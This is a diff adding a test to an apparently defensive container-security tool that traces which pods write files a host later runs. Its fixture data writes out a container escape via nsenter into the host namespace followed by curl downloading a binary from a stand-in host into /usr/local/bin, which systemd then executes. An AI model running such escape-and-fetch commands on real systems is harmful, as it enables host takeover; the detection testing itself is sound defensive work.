@@ -49,3 +49,17 @@ def test_launchers_a_program_already_run_and_another_pod_are_no_writers():
 
 def test_no_processes_no_writes():
     assert named_writes(pl.DataFrame()).height == 0
+
+
+def test_a_path_named_below_an_escape_is_the_hosts_and_a_host_run_of_it_counts():
+    # nsenter -t 1 -m … bash -c "curl -so /usr/local/bin/h …" in pod ds/x-1; systemd (the host, no pod)
+    # runs /usr/local/bin/h later. A pod that did not escape naming the same path writes its own copy.
+    rows = [("ns", "shim", "x-1", "/usr/bin/nsenter", "-t 1 -m -- bash -c curl", 10, 1),
+            ("bash", "ns", "x-1", "/bin/bash", "-c curl -so /usr/local/bin/h http://y/h", 11, 2),
+            ("curl", "bash", "x-1", "/usr/bin/curl", "-so /usr/local/bin/h http://y/h", 12, 3),
+            ("other", "shim", "z-1", "/usr/bin/curl", "-so /usr/local/bin/h http://y/h", 13, 4),
+            ("svc", "systemd", None, "/usr/local/bin/h", "", 20, 5)]
+    p = _procs(rows).with_columns(pl.when(pl.col("pod").is_null()).then(None).otherwise(
+        pl.col("namespace")).alias("namespace"))
+    assert named_writes(p, ["ns"]).select("exec_id", "pod", "path").rows() == [("curl", "x-1", "/usr/local/bin/h")]
+    assert named_writes(p).height == 0
